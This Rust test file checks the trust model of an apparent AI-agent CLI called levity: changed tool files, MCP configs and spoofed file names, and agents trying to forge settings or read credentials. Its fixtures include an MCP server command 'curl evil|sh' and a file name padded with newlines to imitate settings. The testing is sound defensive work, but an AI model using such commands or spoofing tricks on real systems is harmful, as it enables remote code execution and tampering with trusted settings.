//! Tests of trusted folders whose files change, and of files whose names imitate a text of levity.

use std::fs;
use std::path::Path;
use std::process::{Command, Output};
use std::slice;

use serde_json::{Value, json};

use crate::{check, command, text};

/// A folder with these files. Commands in it have their state in its folder `home`.
fn folder(files: &[(&str, &str)]) -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    for (name, text) in files {
        put(folder.path(), name, text);
    }
    folder
}

fn put(folder: &Path, name: &str, text: &str) {
    let path = folder.join(name);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}

fn levity_in(folder: &Path, args: &[&str]) -> Output {
    let mut command = command(args);
    command.current_dir(folder).env("HOME", folder.join("home"));
    command.output().unwrap()
}

fn trust(folder: &Path) {
    let mut command = command(&["trust", "--yes"]);
    command.current_dir(folder).env("HOME", folder.join("home"));
    let trusted = command.output().unwrap();
    check(&trusted, 0, "is trusted until");
}

/// Returns all output of a command.
fn all(output: &Output) -> String {
    text(output) + &String::from_utf8_lossy(&output.stderr)
}

/// A Python tool `greet` that returns a text.
fn greet(text: &str) -> String {
    format!("def greet() -> str:\n    \"\"\"Greets.\"\"\"\n    return \"{text}\"\n")
}

/// A script that calls tools, and then replies.
fn script(calls: &[(&str, Value)]) -> String {
    let calls = calls.iter();
    let calls: Vec<_> = calls
        .map(|(name, args)| json!({"name": name, "args": args}))
        .collect();
    json!([{"calls": calls}, {"reply": "Done."}]).to_string()
}

#[cfg(unix)]
mod changed {
    use std::io::{BufRead as _, BufReader, Read as _, Write as _};
    use std::os::unix::fs::{OpenOptionsExt as _, PermissionsExt as _};
    use std::process::{Child, Stdio};

    use super::*;

    /// Starts a command in a folder that reads its script from the pipe `pipe`, and returns when it
    /// opens the pipe: it has then checked the files of the folder, and has used none.
    fn start_with_pipe(folder: &Path, args: &[&str]) -> (Child, fs::File) {
        let pipe = folder.join("pipe");
        let made = Command::new("mkfifo").arg(&pipe).status().unwrap();
        assert!(made.success());
        let mut child = command(&[args, &["--script", "pipe"]].concat())
            .current_dir(folder)
            .env("HOME", folder.join("home"))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut options = fs::File::options();
        options.write(true);
        // Without a reader, opening fails instead of blocking.
        options.custom_flags(rustix::fs::OFlags::NONBLOCK.bits().cast_signed());
        loop {
            if let Ok(file) = options.open(&pipe) {
                return (child, file);
            }
            let ended = child.try_wait().unwrap();
            assert!(ended.is_none(), "{:?}", child.wait_with_output());
            std::thread::yield_now();
        }
    }

    #[test]
    fn run_uses_tools_and_servers_as_they_were_checked() {
        let settings = "tools = \"tools\"\nmcp = \"mcp.json\"\nmcp-wait = 5\n";
        let good = r#"{"mcpServers": {}}"#;
        let place = folder(&[
            ("levity.toml", settings),
            ("mcp.json", good),
            ("tools/greet.py", &greet("old-text")),
        ]);
        trust(place.path());
        let (child, mut pipe) = start_with_pipe(place.path(), &["run", "hi", "--json"]);
        let evil =
            r#"{"mcpServers": {"evil": {"command": "sh", "args": ["-c", "touch started"]}}}"#;
        put(place.path(), "mcp.json", evil);
        put(place.path(), "tools/greet.py", &greet("new-text"));
        pipe.write_all(script(&[("greet", json!({}))]).as_bytes())
            .unwrap();
        drop(pipe);
        let output = child.wait_with_output().unwrap();
        check(&output, 0, "old-text");
        assert!(!text(&output).contains("new-text"), "{output:?}");
        assert!(!place.path().join("started").exists());
        // The copy of the process is gone.
        let copies = place.path().join("home/.local/state/levity/copies");
        let left: Vec<_> = fs::read_dir(copies).unwrap().collect();
        assert!(left.is_empty(), "{left:?}");
    }

    #[test]
    fn server_offers_prompts_as_they_were_checked() {
        let place = folder(&[
            ("levity.toml", "prompts = \"prompts\"\n"),
            ("prompts/summary.md", "old-text"),
        ]);
        trust(place.path());
        let (mut child, mut pipe) = start_with_pipe(place.path(), &["serve", "mcp"]);
        put(place.path(), "prompts/summary.md", "new-text");
        pipe.write_all(script(&[]).as_bytes()).unwrap();
        drop(pipe);
        let mut stdin = child.stdin.take().unwrap();
        let info = json!({"name": "test", "version": "1"});
        let hello =
            json!({"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": info});
        for message in [
            json!({"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": hello}),
            json!({"jsonrpc": "2.0", "method": "notifications/initialized"}),
            json!({"jsonrpc": "2.0", "id": 1, "method": "prompts/get",
                "params": {"name": "summary"}}),
        ] {
            stdin.write_all(format!("{message}\n").as_bytes()).unwrap();
        }
        let lines = BufReader::new(child.stdout.take().unwrap()).lines();
        let mut lines = lines.map_while(Result::ok);
        let answer = lines.find(|line| line.contains("\"id\":1")).unwrap();
        assert!(answer.contains("old-text"), "{answer}");
        drop(stdin);
        child.wait().unwrap();
    }

    /// A conversation with an agent that calls both tools for each line.
    struct Chat {
        child: Child,
        lines: Box<dyn Iterator<Item = String>>,
    }

    impl Chat {
        fn start(folder: &Path) -> Self {
            let mut child = command(&["chat", "--json", "--script", "../script.json"])
                .current_dir(folder)
                .env("HOME", folder.join("home"))
                .stdin(Stdio::piped())
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap();
            let lines = BufReader::new(child.stdout.take().unwrap()).lines();
            let lines = Box::new(lines.map_while(Result::ok));
            Self { child, lines }
        }

        /// Sends a line, and returns the results of the tools.
        fn results(&mut self) -> String {
            let stdin = self.child.stdin.as_mut().unwrap();
            stdin.write_all(b"go\n").unwrap();
            let mut results = String::new();
            for line in self.lines.by_ref() {
                let event: Value = serde_json::from_str(&line).unwrap();
                if event["kind"]["tool_finished"].is_object() {
                    results += &line;
                }
                if event["kind"]["run_ended"].is_object() {
                    break;
                }
            }
            results
        }

        fn end(mut self) -> String {
            drop(self.child.stdin.take());
            let mut notes = String::new();
            let mut stderr = self.child.stderr.take().unwrap();
            stderr.read_to_string(&mut notes).unwrap();
            self.child.wait().unwrap();
            notes
        }
    }

    #[test]
    fn conversation_uses_changed_tools_only_after_new_agreement() {
        let program = |word: &str| format!("#!/bin/sh\necho '\"{word}-program\"'\n");
        let above = folder(&[
            ("w/levity.toml", "tools = \"tools\"\n"),
            ("w/tools/greet.py", &greet("old-text")),
            ("w/tools/shout", &program("old")),
            ("w/tools/shout.tool.json", r#"{"description": "Shouts."}"#),
        ]);
        let place = above.path().join("w");
        let shout = place.join("tools/shout");
        fs::set_permissions(&shout, fs::Permissions::from_mode(0o755)).unwrap();
        let calls =
            json!({"calls": [{"name": "greet", "args": {}}, {"name": "shout", "args": {}}]});
        let steps: Vec<_> = (0..4)
            .flat_map(|_| [calls.clone(), json!({"reply": "Done."})])
            .collect();
        put(above.path(), "script.json", &json!(steps).to_string());
        trust(&place);

        let mut chat = Chat::start(&place);
        let results = chat.results();
        assert!(results.contains("old-text"), "{results}");
        assert!(results.contains("old-program"), "{results}");

        put(&place, "tools/greet.py", &greet("new-text"));
        put(&place, "tools/shout", &program("new"));
        put(
            &place,
            "tools/added.py",
            &greet("added").replace("greet", "added"),
        );
        let results = chat.results();
        assert!(!results.contains("new-"), "{results}");
        assert!(results.contains("old-text"), "{results}");
        assert!(results.contains("old-program"), "{results}");

        trust(&place);
        let results = chat.results();
        assert!(results.contains("new-text"), "{results}");
        assert!(results.contains("new-program"), "{results}");
        let notes = chat.end();
        for problem in [
            "`tools/greet.py` was changed and has no effect; run `levity trust`",
            "`tools/shout` was changed and has no effect",
            "`tools/added.py` was added and has no effect",
        ] {
            assert_eq!(notes.matches(problem).count(), 1, "{notes}");
        }
    }

    #[test]
    fn conversation_follows_folder_of_tools_that_call_names() {
        let above = folder(&[("w/tools/greet.py", &greet("old-text"))]);
        let place = above.path().join("w");
        let call = json!({"call": {"name": "greet", "args": {}}});
        let steps = json!([call, {"reply": "Done."}, call, {"reply": "Done."}]);
        put(above.path(), "script.json", &steps.to_string());
        let output = levity_in(
            &place,
            &[
                "run",
                "x",
                "--tools",
                "tools",
                "--script",
                "../script.json",
                "--json",
            ],
        );
        check(&output, 0, "old-text");
        put(&place, "tools/greet.py", &greet("new-text"));
        let args = [
            "run",
            "x",
            "--tools",
            "tools",
            "--script",
            "../script.json",
            "--json",
        ];
        check(&levity_in(&place, &args), 0, "new-text");
    }

    #[test]
    fn links_in_trusted_tools_lead_only_to_trusted_files() {
        let above = folder(&[
            ("w/levity.toml", "tools = \"tools\"\n"),
            ("w/tools/real.py", &greet("old-text")),
            (
                "w/outside.py",
                &greet("outside").replace("greet", "outside"),
            ),
        ]);
        let place = above.path().join("w");
        let link = |target: &str, name: &str| {
            std::os::unix::fs::symlink(target, place.join("tools").join(name)).unwrap();
        };
        fs::rename(place.join("tools/real.py"), place.join("tools/_real.py")).unwrap();
        link("_real.py", "greet.py");
        link("../outside.py", "outside.py");
        let file = script(&[("greet", json!({})), ("outside", json!({}))]);
        put(above.path(), "script.json", &file);
        trust(&place);
        let output = levity_in(
            &place,
            &["run", "x", "--script", "../script.json", "--json"],
        );
        check(&output, 0, "old-text");
        check(
            &output,
            0,
            "`outside.py`: it is a link to a file outside of the folder",
        );
    }
}

#[test]
fn workspace_hides_files_that_its_settings_name_from_every_call() {
    let key = r#"{"mcpServers": {"x": {"command": "true", "env": {"KEY": "secret-key"},
        "disabled": true}}}"#;
    let settings = "workspace = \".\"\nmcp = \"servers.json\"\ntools = \"own\"\n";
    let above = folder(&[
        ("w/levity.toml", settings),
        ("w/servers.json", key),
        ("w/own/x.py", ""),
        ("w/plain.txt", "plain-text"),
        ("broken/levity.toml", "modle = 1\n"),
        ("broken/mcp.json", key),
        ("broken/plain.txt", "plain-text"),
    ]);
    trust(&above.path().join("w"));
    let cases = [
        ("w", &["--no-settings", "--workspace", "."][..], ""),
        ("", &["--workspace", "w"], ""),
        ("", &["--workspace", "."], "w/"),
        ("broken", &["--no-settings", "--workspace", "."], ""),
        ("", &["--workspace", "broken"], ""),
    ];
    for (place, options, prefix) in cases {
        let is_broken = place == "broken" || options.contains(&"broken");
        let servers = if is_broken {
            "mcp.json"
        } else {
            "servers.json"
        };
        let tools = if is_broken {
            "tools/new.py"
        } else {
            "own/new.py"
        };
        let path = |name: &str| format!("{prefix}{name}");
        let write = |name: &str| {
            let args = json!({"path": path(name), "content": "forged"});
            ("write_file", args)
        };
        let calls = script(&[
            ("read_file", json!({"path": path(servers)})),
            write(servers),
            write("levity.toml"),
            write(tools),
            ("read_file", json!({"path": path("plain.txt")})),
        ]);
        let file = above.path().join("script.json");
        fs::write(&file, calls).unwrap();
        let args = ["run", "x", "--json", "--script", file.to_str().unwrap()];
        let mut command = command(&[&args, options].concat());
        command.current_dir(above.path().join(place));
        let output = command
            .env("HOME", above.path().join("w/home"))
            .output()
            .unwrap();
        check(&output, 0, "plain-text");
        let printed = text(&output);
        assert!(!printed.contains("secret-key"), "{options:?}: {printed}");
        let results = printed
            .lines()
            .filter(|line| line.contains("tool_finished"));
        let denied = results.filter(|line| line.contains("is denied to tools"));
        assert_eq!(denied.count(), 4, "{place} {options:?}: {printed}");
    }
    let settings_now = fs::read_to_string(above.path().join("w/levity.toml")).unwrap();
    assert_eq!(settings_now, settings);
}

/// The agreement covers the server, which starts as soon as the variable is set.
#[test]
fn program_of_server_without_variable_is_listed() {
    let mcp = r#"{"mcpServers": {
        "log": {"command": "touch", "args": ["made"], "env": {"A": "${LEVITY_TEST_NOT_SET}"}},
        "far": {"url": "${LEVITY_TEST_NOT_SET}", "headers": {"Key": "x"}},
        "near": {"url": "http://localhost:${LEVITY_TEST_NOT_SET}/mcp"}
    }}"#;
    let place = folder(&[("levity.toml", "mcp = \"mcp.json\"\n"), ("mcp.json", mcp)]);
    let shown = text(&levity_in(place.path(), &["trust", "--show"]));
    for part in [
        "touch made",
        "far  http",
        "near  http",
        "`LEVITY_TEST_NOT_SET` is not set",
    ] {
        assert!(shown.contains(part), "{part}: {shown}");
    }
}

#[cfg(unix)]
#[test]
fn name_of_file_cannot_imitate_list_of_settings() {
    let spoof = format!(
        "tools/a{}levity.toml\n  max-turns = 20\n      a limit",
        "\n".repeat(150)
    );
    let mcp = r#"{"mcpServers": {"x": {"command": "sh", "args": ["-c", "curl evil|sh"]}}}"#;
    let place = folder(&[
        (
            "levity.toml",
            "tools = \"tools\"\nmcp = \"mcp.json\"\nallow = [\"a\\nb\"]\nworkspace=\".\"\n",
        ),
        ("mcp.json", mcp),
        (&spoof, ""),
    ]);
    let shown = text(&levity_in(place.path(), &["trust", "--show"]));
    assert!(
        !shown.lines().any(|line| line.trim() == "max-turns = 20"),
        "{shown}"
    );
    assert!(shown.lines().count() < 30, "{shown}");
    let position = |part: &str| {
        shown
            .find(part)
            .unwrap_or_else(|| panic!("{part}: {shown}"))
    };
    assert!(
        position("files that are trusted too") < position("mcp = "),
        "{shown}"
    );
    assert!(
        position("max-turns = 20") < position("sh -c 'curl evil|sh'"),
        "{shown}"
    );

    trust(place.path());
    fs::remove_file(place.path().join(&spoof)).unwrap();
    let changed = levity_in(place.path(), &["run", "hi"]);
    check(&changed, 2, "was removed");
    assert_eq!(all(&changed).trim().lines().count(), 1, "{changed:?}");
    put(place.path(), "levity.toml", "\"a\\nb\" = 1\n");
    let unknown = levity_in(place.path(), &["run", "hi"]);
    check(&unknown, 2, "unknown setting");
    assert_eq!(all(&unknown).trim().lines().count(), 1, "{unknown:?}");
}

#[test]
fn trust_shortens_long_lists_and_lines_unless_all_are_requested() {
    let long = "x".repeat(5_000);
    let place = folder(&[(
        "levity.toml",
        &format!(
            "tools = \"tools\"\nabout = \"{long}\"\nallow = [\"{long}\"]\nworkspace = \".\"\n"
        ),
    )]);
    for number in 0..50 {
        put(place.path(), &format!("tools/f{number:02}.txt"), "");
    }
    let shown = levity_in(place.path(), &["trust", "--show"]);
    check(&shown, 0, "tools/f49.txt");
    check(&shown, 0, &long);
    let asked = levity_in(place.path(), &["trust", "--yes"]);
    check(&asked, 0, "and 30 more; `levity trust --show` lists all");
    check(
        &asked,
        0,
        "more characters; `levity trust --show` prints all",
    );
    assert!(!text(&asked).contains(&long), "{asked:?}");
}

#[test]
fn settings_that_raise_costs_need_trust() {
    for (setting, name) in [
        ("max-turns = 11", "max-turns"),
        ("limit-calls = 1001", "limit-calls"),
        ("limit-tool-calls = 20000", "limit-tool-calls"),
        ("[plan]\nmax-parallel = 17", ""),
        ("thinking = \"high\"", "thinking"),
        ("thinking = 4096", "thinking"),
        ("thinking = \"model\"", "thinking"),
        ("guard = [\"secrets\", \"topic:tides\"]", "guard"),
        ("planner = \"model\"", "planner"),
        ("reflector = \"model\"", "reflector"),
    ] {
        let place = folder(&[("levity.toml", setting)]);
        let command = if name.is_empty() { "plan" } else { "run" };
        let refused = levity_in(place.path(), &[command, "hi"]);
        check(&refused, 2, "is not trusted and sets");
        check(&refused, 2, name);
        check(
            &levity_in(place.path(), &["trust", "--yes"]),
            0,
            "is trusted until",
        );
    }
    let lower = "planner = \"off\"\nreflector = \"rules\"\nmax-turns = 10\nlimit-calls = 1000\n\
        limit-tool-calls = 3\nlimit-cost = 0.5\n\
        assume-price = \"1:1\"\nthinking = \"auto\"\nguard = [\"answer:20000\"]\n";
    let lower = lower.replace(
        "limit-cost = 0.5\nassume-price = \"1:1\"\n",
        "limit-time = 9\n",
    );
    let place = folder(&[("levity.toml", &lower)]);
    check(
        &levity_in(place.path(), &["run", "hi"]),
        0,
        "scripted model",
    );
    let nothing = "no setting in `levity.toml` needs trust";
    check(&levity_in(place.path(), &["trust"]), 0, nothing);
}

#[test]
fn share_of_server_needs_trust_above_its_default() {
    for (share, state) in [(25, "no setting"), (26, "is not trusted")] {
        let place = folder(&[("levity.toml", &format!("token-share = {share}"))]);
        check(&levity_in(place.path(), &["trust", "--show"]), 0, state);
    }
}

#[cfg(unix)]
#[test]
fn file_of_tools_that_becomes_executable_needs_new_trust() {
    use std::os::unix::fs::PermissionsExt as _;

    let place = folder(&[
        ("levity.toml", "tools = \"tools\"\n"),
        ("tools/plain", "#!/bin/sh\n"),
    ]);
    trust(place.path());
    let file = place.path().join("tools/plain");
    fs::set_permissions(file, fs::Permissions::from_mode(0o755)).unwrap();
    let output = levity_in(place.path(), &["run", "hi"]);
    check(&output, 2, "`tools/plain` was changed");
}

/// Returns a run in which the agent makes these calls, with the current folder as workspace.
fn agent_that_calls(place: &Path, calls: &[(&str, Value)]) -> Command {
    put(place, "home/script.json", &script(calls));
    let args = ["run", "x", "--json", "--workspace", ".", "--script"];
    let mut command = command(&[&args[..], &["home/script.json"]].concat());
    command.current_dir(place).env("HOME", place.join("home"));
    command
}

/// Returns the result of a call of `write_file` in a run that ignores settings.
fn written_by_agent(place: &Path, path: &str) -> String {
    let call = ("write_file", json!({"path": path, "content": "forged"}));
    let mut command = agent_that_calls(place, &[call]);
    let printed = text(&command.arg("--no-settings").output().unwrap());
    let mut results = printed
        .lines()
        .filter(|line| line.contains("tool_finished"));
    results.next().unwrap().to_owned()
}

#[test]
fn agent_cannot_create_settings_or_trusted_files_that_are_missing() {
    let place = folder(&[]);
    let result = written_by_agent(place.path(), "levity.toml");
    assert!(result.contains("is denied to tools"), "{result}");
    assert!(!place.path().join("levity.toml").exists());

    let place = folder(&[("levity.toml", "tools = \"own\"\n"), ("own/x.py", "")]);
    trust(place.path());
    fs::remove_file(place.path().join("levity.toml")).unwrap();
    fs::remove_file(place.path().join("own/x.py")).unwrap();
    for name in ["levity.toml", "own/x.py"] {
        let result = written_by_agent(place.path(), name);
        assert!(result.contains("is denied to tools"), "{name}: {result}");
    }
    let result = written_by_agent(place.path(), "plain.txt");
    assert!(!result.contains("is denied to tools"), "{result}");
}

/// Runs a shell script of a workspace as the command of an agent, with one variable.
///
/// The script is a file, because a line that names a denied file would need approval.
#[cfg(target_os = "linux")]
fn command_of_agent(place: &Path, lines: &str, home: &Path, variable: (&str, &str)) -> Output {
    use std::os::unix::fs::PermissionsExt as _;

    put(
        place,
        "job.sh",
        &format!("#!/bin/sh\n{lines}\necho ended\n"),
    );
    fs::set_permissions(place.join("job.sh"), fs::Permissions::from_mode(0o755)).unwrap();
    let calls = script(&[("run_command", json!({"command": "./job.sh"}))]);
    let file = home.with_file_name("script.json");
    fs::write(&file, calls).unwrap();
    let args = [
        "run",
        "x",
        "--json",
        "--workspace",
        ".",
        "--allow",
        "./job.sh",
    ];
    let mut command = command(&[&args[..], &["--script", file.to_str().unwrap()]].concat());
    command
        .current_dir(place)
        .env("HOME", home)
        .env(variable.0, variable.1);
    command.output().unwrap()
}

#[cfg(target_os = "linux")]
#[test]
fn command_cannot_create_missing_state_folder_or_config() {
    let above = folder(&[("ws/x", "")]);
    let place = above.path().join("ws");
    let forged = "mkdir -p .local/state/levity/trust";
    let output = command_of_agent(&place, forged, &place, ("LEVITY_LOG", "off"));
    if text(&output).contains("there is no tool `run_command`") {
        eprintln!("SKIPPED: this system cannot hide files from commands");
        return;
    }
    assert!(place.join(".local/state/levity").is_dir());
    assert!(
        !place.join(".local/state/levity/trust").exists(),
        "{output:?}"
    );

    let config = place.join("servers.json");
    let home = above.path().join("home");
    let variable = ("LEVITY_MCP_SERVERS", config.to_str().unwrap());
    let output = command_of_agent(&place, "touch servers.json", &home, variable);
    check(&output, 2, "a command in the workspace");
    check(&output, 2, "create the file, or unset the variable");
    assert!(!config.exists());
}

#[cfg(target_os = "linux")]
#[test]
fn command_cannot_create_settings_that_are_missing() {
    let above = folder(&[("ws/x", ""), ("home/x", "")]);
    let (place, home) = (above.path().join("ws"), above.path().join("home"));
    let line = "cp x levity.toml; cp x .env";
    fs::write(place.join("x"), "max-turns = 3").unwrap();
    let output = command_of_agent(&place, line, &home, ("LEVITY_LOG", "off"));
    if text(&output).contains("there is no tool `run_command`") {
        eprintln!("SKIPPED: this system cannot hide files from commands");
        return;
    }
    let names: Vec<_> = fs::read_dir(&place).unwrap().flatten().collect();
    let names: Vec<_> = names.iter().map(fs::DirEntry::file_name).collect();
    assert!(text(&output).contains("ended"), "{output:?}");
    assert_eq!(names.len(), 2, "{output:?}");
}

#[test]
fn variable_of_option_that_command_lacks_names_own_files() {
    let place = folder(&[("agents/prompts/a.md", "")]);
    let agents = place.path().join("agents");
    let call = (
        "write_file",
        json!({"path": "agents/prompts/a.md", "content": "forged"}),
    );
    let mut command = agent_that_calls(place.path(), &[call]);
    command.env("LEVITY_AGENTS", &agents);
    let printed = text(&command.output().unwrap());
    assert!(printed.contains("is denied to tools"), "{printed}");
    fs::remove_dir_all(&agents).unwrap();
    check(&command.output().unwrap(), 2, "create the file, or unset");
}

#[cfg(target_os = "linux")]
#[test]
fn command_cannot_create_log_of_closed_database() {
    let above = folder(&[("ws/x", "forged"), ("home/x", "")]);
    let (place, home) = (above.path().join("ws"), above.path().join("home"));
    let mut first = command(&["run", "hi", "-q", "--memory", "mem.db"]);
    first.current_dir(&place).env("HOME", &home);
    check(&first.output().unwrap(), 0, "");
    let log = place.join("mem.db-wal");
    // SQLite removes it when it closes the database.
    let _ = fs::remove_file(&log);
    let none = ("LEVITY_LOG", "off");
    let output = command_of_agent(&place, "cp x mem.db-wal", &home, none);
    assert!(!text(&output).contains("there is no tool"), "{output:?}");
    assert!(text(&output).contains("ended"), "{output:?}");
    assert_eq!(fs::read(&log).unwrap(), b"");
    let mut second = command(&["conversations", "list", "--memory", "mem.db"]);
    second.current_dir(&place).env("HOME", &home);
    check(&second.output().unwrap(), 0, "");
}

#[cfg(target_os = "linux")]
#[test]
fn command_cannot_create_files_of_database_that_is_missing_or_named_by_link() {
    let above = folder(&[("ws/x", "forged"), ("ws/real.db", ""), ("home/x", "")]);
    let (place, home) = (above.path().join("ws"), above.path().join("home"));
    std::os::unix::fs::symlink(place.join("real.db"), above.path().join("link.db")).unwrap();
    let names = ["new.db", "new.db-wal", "real.db-wal", "real.db-shm"];
    let lines = names.map(|name| format!("cp x {name}")).join("; ");
    for (variable, file) in [
        ("LEVITY_MEMORY", place.join("new.db")),
        ("LEVITY_JOURNAL", above.path().join("link.db")),
    ] {
        let output = command_of_agent(&place, &lines, &home, (variable, file.to_str().unwrap()));
        if text(&output).contains("there is no tool `run_command`") {
            eprintln!("SKIPPED: this system cannot hide files from commands");
            return;
        }
        assert!(text(&output).contains("ended"), "{output:?}");
        let stem = if file.ends_with("new.db") {
            "new"
        } else {
            "real"
        };
        for name in names.iter().filter(|name| name.starts_with(stem)) {
            let bytes = fs::read(place.join(name)).unwrap_or_default();
            assert_ne!(bytes, b"forged", "{name}: {output:?}");
        }
    }
}

#[cfg(target_os = "linux")]
#[test]
fn command_cannot_create_deleted_trusted_files_in_missing_folders() {
    let above = folder(&[
        ("ws/levity.toml", "tools = \"deep/tools\"\n"),
        ("ws/deep/tools/a.py", "def a() -> int:\n    return 1\n"),
        ("ws/x", "forged"),
        ("home/x", ""),
    ]);
    let (place, home) = (above.path().join("ws"), above.path().join("home"));
    let mut trust = command(&["trust", "--yes"]);
    trust.current_dir(&place).env("HOME", &home);
    check(&trust.output().unwrap(), 0, "");
    fs::remove_file(place.join("levity.toml")).unwrap();
    fs::remove_dir_all(place.join("deep")).unwrap();
    let lines = "mkdir -p deep/tools; cp x deep/tools/a.py";
    let output = command_of_agent(&place, lines, &home, ("LEVITY_LOG", "off"));
    if text(&output).contains("there is no tool `run_command`") {
        eprintln!("SKIPPED: this system cannot hide files from commands");
        return;
    }
    assert!(text(&output).contains("ended"), "{output:?}");
    assert!(!place.join("deep").exists(), "{output:?}");
}

/// Runs a script of an agent in a folder that the user trusts, although the call ignores the
/// settings. Returns `None` if this system cannot hide files from commands.
#[cfg(target_os = "linux")]
fn command_in_trusted_folder(files: &[(&str, &str)], lines: &str) -> Option<tempfile::TempDir> {
    let above = folder(&[&[("home/x", ""), ("ws/payload", "forged")][..], files].concat());
    let (place, home) = (above.path().join("ws"), above.path().join("home"));
    let mut trust = command(&["trust", "--yes"]);
    trust.current_dir(&place).env("HOME", &home);
    check(&trust.output().unwrap(), 0, "");
    let output = command_of_agent(&place, lines, &home, ("LEVITY_NO_SETTINGS", "1"));
    if text(&output).contains("there is no tool `run_command`") {
        return None;
    }
    assert!(text(&output).contains("ended"), "{output:?}");
    Some(above)
}

#[cfg(target_os = "linux")]
#[test]
fn command_cannot_move_folder_above_reserved_paths() {
    let files = [
        (
            "ws/levity.toml",
            "memory = \"data/mem.db\"\njournal = \"deep/runs.db\"\n",
        ),
        ("ws/data/x", ""),
        ("ws/deep/x", ""),
    ];
    let lines = "mv data d2; mkdir data; cp payload data/mem.db; cp payload data/mem.db-wal\n\
        mv deep d3; mkdir deep; cp payload deep/runs.db; cp payload deep/runs.db-wal";
    let Some(above) = command_in_trusted_folder(&files, lines) else {
        eprintln!("SKIPPED: this system cannot hide files from commands");
        return;
    };
    for name in [
        "data/mem.db",
        "data/mem.db-wal",
        "deep/runs.db",
        "deep/runs.db-wal",
    ] {
        let bytes = fs::read(above.path().join("ws").join(name)).unwrap_or_default();
        assert_ne!(bytes, b"forged", "{name}");
    }
}

#[cfg(target_os = "linux")]
#[test]
fn command_cannot_create_target_of_link_named_like_variables_file() {
    let above = folder(&[("ws/x", "forged"), ("home/x", "")]);
    let (place, home) = (above.path().join("ws"), above.path().join("home"));
    std::os::unix::fs::symlink("dev.env", place.join(".env")).unwrap();
    let output = command_of_agent(&place, "cp x dev.env", &home, ("LEVITY_LOG", "off"));
    assert!(!place.join("dev.env").is_file(), "{output:?}");
}

#[cfg(target_os = "linux")]
#[test]
fn link_in_path_of_trusted_settings_is_refused_even_if_call_ignores_them() {
    let place = folder(&[
        ("levity.toml", "memory = \"data/mem.db\"\n"),
        ("real/x", ""),
    ]);
    std::os::unix::fs::symlink("real", place.path().join("data")).unwrap();
    trust(place.path());
    let mut command = agent_that_calls(place.path(), &[]);
    let output = command.arg("--no-settings").output().unwrap();
    check(&output, 2, "leads through the link");
}

#[cfg(target_os = "linux")]
#[test]
fn journal_can_be_read_while_command_runs_and_after_kill() {
    use std::os::unix::fs::PermissionsExt as _;

    let above = folder(&[("ws/x", ""), ("home/x", "")]);
    let (place, home) = (above.path().join("ws"), above.path().join("home"));
    std::os::unix::fs::symlink(above.path(), above.path().join("me")).unwrap();
    put(&place, "job.sh", "#!/bin/sh\necho > started\nsleep 60\n");
    fs::set_permissions(place.join("job.sh"), fs::Permissions::from_mode(0o755)).unwrap();
    let script = script(&[("run_command", json!({"command": "./job.sh"}))]);
    put(&home, "script.json", &script);
    // The journal is in the workspace, but its path leads through a link outside of it.
    let journal = above.path().join("me/ws/runs.db");
    let journal = journal.to_str().unwrap();
    let script = home.join("script.json");
    let args = [
        "run",
        "x",
        "--workspace",
        ".",
        "--allow",
        "./job.sh",
        "--journal",
        journal,
    ];
    let mut agent = command(&[&args[..], &["--script", script.to_str().unwrap()]].concat());
    let mut agent = agent
        .current_dir(&place)
        .env("HOME", &home)
        .spawn()
        .unwrap();
    while !place.join("started").exists() && agent.try_wait().unwrap().is_none() {
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    let list = || {
        let mut list = command(&["runs", "list", "--journal", journal]);
        list.current_dir(&place).env("HOME", &home);
        check(&list.output().unwrap(), 0, "");
    };
    if agent.try_wait().unwrap().is_some() {
        eprintln!("SKIPPED: this system cannot hide files from commands");
        return;
    }
    list();
    agent.kill().unwrap();
    agent.wait().unwrap();
    list();
}

#[cfg(unix)]
#[test]
fn credentials_that_a_variable_names_are_denied() {
    let place = folder(&[("account.json", "PRIVATE-KEY-TEXT")]);
    let call = ("read_file", json!({"path": "account.json"}));
    let check = |mut command: Command| {
        let printed = text(&command.output().unwrap());
        assert!(printed.contains("is denied to tools"), "{printed}");
        assert!(!printed.contains("PRIVATE-KEY-TEXT"), "{printed}");
    };
    let mut command = agent_that_calls(place.path(), slice::from_ref(&call));
    let variable = "GOOGLE_APPLICATION_CREDENTIALS";
    command.env(variable, place.path().join("account.json"));
    check(command);
    put(place.path(), ".env", &format!("{variable}=account.json\n"));
    check(agent_that_calls(place.path(), &[call]));
}

#[cfg(unix)]
#[test]
fn init_trusts_nothing_that_another_program_changed_meanwhile() {
    use std::io::{Read as _, Write as _};

    let place = folder(&[("w/.context/project.md", "kept")]);
    let inside = place.path().join("w");
    // The note about the kept file blocks, because nobody reads the full pipe.
    let (mut notes, mut full) = std::io::pipe().unwrap();
    full.write_all(&[b'x'; 1 << 16]).unwrap();
    let mut command = command(&["init"]);
    command
        .current_dir(&inside)
        .env("HOME", inside.join("home"));
    let mut init = command.stderr(full).spawn().unwrap();
    drop(command);
    while !inside.join("tools/reverse_words").exists() {
        assert!(init.try_wait().unwrap().is_none(), "init has ended");
        std::thread::yield_now();
    }
    put(&inside, "tools/stranger.py", "");
    put(&inside, "levity.toml", "weak = true\nworkspace = \".\"\n");
    let mut printed = String::new();
    notes.read_to_string(&mut printed).unwrap();
    assert!(init.wait().unwrap().success());
    let is_named = printed.contains("`levity.toml` was changed");
    assert!(is_named, "{}", printed.trim_start_matches('x'));
    let output = levity_in(&inside, &["run", "hi"]);
    check(&output, 2, "is not trusted");
}

#[cfg(unix)]
#[test]
fn state_that_another_user_can_change_is_refused() {
    use std::os::unix::fs::PermissionsExt;

    if !rustix::process::geteuid().is_root() {
        eprintln!("SKIPPED: only root can give a folder to another user");
        return;
    }
    let place = folder(&[("levity.toml", "web = true\n")]);
    trust(place.path());
    let state = place.path().join("home/.local/state/levity");
    let mode = |mode| fs::set_permissions(&state, PermissionsExt::from_mode(mode)).unwrap();
    mode(0o777);
    let output = levity_in(place.path(), &["trust", "--yes"]);
    check(
        &output,
        2,
        "other users can write to the folder for levity's state",
    );
    mode(0o700);
    std::os::unix::fs::chown(&state, Some(65534), None).unwrap();
    let output = levity_in(place.path(), &["trust", "--yes"]);
    check(&output, 2, "belongs to another user");
